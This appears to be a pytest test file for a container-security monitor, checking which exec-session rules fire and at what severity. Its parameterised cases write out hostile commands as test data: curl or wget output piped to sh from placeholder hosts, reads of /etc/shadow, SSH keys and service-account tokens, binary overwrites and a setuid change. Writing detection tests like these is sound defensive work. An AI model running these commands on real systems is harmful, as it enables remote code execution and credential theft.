"""Rules over exec-session commands: what fires, at which severity, naming whom."""

from __future__ import annotations

from typing import Any

import pytest

from listener.model.event import Actor, Event, Who, natural_id
from listener.rules.base import RuleContext
from listener.rules.registry import evaluate
from listener.rules.snapshot import decode, encode

CONTAINER = "f" * 64
SESSION = "e" * 64


def command(
    argv: list[str],
    *,
    session: str = SESSION,
    login: str | None = "alice",
    tty: bool = False,
    uid: int = 0,
    **attributes: Any,
) -> Event:
    return Event(
        id=natural_id("h", "exec-command", session, " ".join(argv)),
        time_ns=1_796_500_000_000_000_000,
        source="auditd",
        host="h",
        type="container",
        action="exec-command",
        actor=Actor(id=CONTAINER, name="web", image="nginx"),
        attributes={"session": session, "execID": session, "argv": argv, "uid": uid,
                    "tty": tty, "interactive": tty, "session_command": "sh", **attributes},
        who=Who(login=login, method="auditd-cli" if login else "unknown"),
    )  # fmt: skip


def fired(event: Event, ctx: RuleContext | None = None) -> dict[str, str]:
    return {f.rule: f.severity for f in evaluate(event, ctx or RuleContext())}


@pytest.mark.parametrize(
    "argv",
    [
        ["sh", "-c", "wget -q -O- http://10.0.0.9/x.sh | sh"],
        ["bash", "-lc", "curl -fsSL https://get.example.com | sudo bash"],
        ["sh", "-c", 'sh -c "$(curl -fsSL https://x/install.sh)"'],
        ["sh", "-c", "wget -O /tmp/x http://x/x && chmod +x /tmp/x && ./x"],
        ["sh", "-c", "curl -s http://x/p.py | python3 -"],
    ],
)
def test_code_fetch_fires_with_the_login(argv: list[str]) -> None:
    (found,) = [f for f in evaluate(command(argv), RuleContext()) if f.rule == "exec-code-fetch"]
    assert found.severity == "high"
    assert "alice" in found.summary and found.details["login"] == "alice"
    assert found.details["session"] == SESSION


def test_code_fetch_by_a_pipeline_a_shell_reading_what_wget_wrote() -> None:
    assert fired(command(["sh"], pipeline=["wget"]))["exec-code-fetch"] == "high"
    assert "exec-code-fetch" not in fired(command(["sh"], pipeline=["cat"]))


@pytest.mark.parametrize(
    "argv",
    [
        ["wget", "-O", "/tmp/page.html", "http://x/"],
        ["sh", "-c", "curl -s http://localhost/health | grep ok"],
        ["sh", "-c", "echo curl | sh"],
    ],
)
def test_fetching_without_running_is_no_code_fetch(argv: list[str]) -> None:
    assert "exec-code-fetch" not in fired(command(argv))


def test_code_fetch_once_per_session() -> None:
    ctx = RuleContext()
    script = ["sh", "-c", "wget -O- http://x | sh"]
    assert "exec-code-fetch" in fired(command(script), ctx)
    assert "exec-code-fetch" not in fired(command(["sh"], pipeline=["wget"]), ctx)
    assert "exec-code-fetch" in fired(command(script, session="d" * 64), ctx)


@pytest.mark.parametrize(
    ("argv", "fires"),
    [
        (["apt-get", "install", "-y", "netcat"], True),
        (["apk", "add", "curl"], True),
        (["pip", "install", "requests"], True),
        (["/usr/bin/yum", "-y", "install", "gdb"], True),
        (["apt-get", "update"], False),
        (["apk", "info"], False),
        (["pip", "list"], False),
    ],
)
def test_package_manager(argv: list[str], fires: bool) -> None:
    assert fired(command(argv)).get("exec-package-manager") == ("medium" if fires else None)


@pytest.mark.parametrize(
    ("argv", "tty", "severity"),
    [
        (["cat", "/etc/shadow"], True, "high"),
        (["cat", "/etc/shadow"], False, "medium"),
        (["cp", "/root/.ssh/id_ed25519", "/tmp/k"], True, "high"),
        (["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], False, "medium"),
        (["cat", "/root/.docker/config.json"], True, "high"),
        (["cat", "/etc/passwd"], True, None),
        (["ls", "/root/.ssh"], True, None),
    ],
)
def test_credential_read(argv: list[str], tty: bool, severity: str | None) -> None:
    assert fired(command(argv, tty=tty)).get("exec-credential-read") == severity


def test_the_containers_own_health_check_pages_nobody() -> None:
    """A health check reading a credential file every 10 s: info, not high."""
    ctx = RuleContext()
    check = "sh -c cat /run/secrets/db_password >/dev/null"
    create = Event(
        id="create", time_ns=1, source="docker", host="h", type="container", action="create",
        actor=Actor(id=CONTAINER, name="web"), config={"healthcheck": check, "user": "app"},
    )  # fmt: skip
    evaluate(create, ctx)
    argv = ["cat", "/run/secrets/db_password"]
    health = command(argv, login=None, session_command=check)
    assert fired(health, ctx)["exec-credential-read"] == "info"
    by_hand = command(argv, tty=True, session_command="sh")
    assert fired(by_hand, ctx)["exec-credential-read"] == "high"


@pytest.mark.parametrize(
    ("argv", "fires"),
    [
        (["cp", "/tmp/ls", "/bin/ls"], True),
        (["mv", "/tmp/x", "/usr/local/bin/kubectl"], True),
        (["sed", "-i", "s/a/b/", "/usr/lib/python3/site.py"], True),
        (["chmod", "u+s", "/usr/bin/find"], True),
        (["dd", "if=/tmp/x", "of=/usr/sbin/sshd"], True),
        (["wget", "-O", "/usr/bin/tool", "http://x/tool"], True),
        (["cp", "/bin/ls", "/tmp/ls"], False),
        (["sed", "s/a/b/", "/usr/lib/x.conf"], False),
        (["cat", "/usr/bin/env"], False),
    ],
)
def test_binary_edit(argv: list[str], fires: bool) -> None:
    assert fired(command(argv)).get("exec-binary-edit") == ("high" if fires else None)


def test_interactive_root_shell_once_per_session() -> None:
    ctx = RuleContext()
    assert fired(command(["sh"], tty=True), ctx)["exec-root-shell"] == "medium"
    assert "exec-root-shell" not in fired(command(["bash", "-l"], tty=True), ctx)  # same session
    assert "exec-root-shell" not in fired(command(["sh"], tty=False, session="1" * 64), ctx)
    assert "exec-root-shell" not in fired(command(["sh"], tty=True, uid=1000, session="2" * 64))
    assert "exec-root-shell" not in fired(command(["sh", "-c", "id"], tty=True, session="3" * 64))


def test_once_per_session_survives_a_saved_and_restored_rule_state() -> None:
    ctx = RuleContext()
    script = ["sh", "-c", "wget -O- http://x | sh"]
    assert "exec-code-fetch" in fired(command(script), ctx)

    restored = RuleContext()
    restored.state = decode(encode(ctx.state))

    assert "exec-code-fetch" not in fired(command(script), restored)
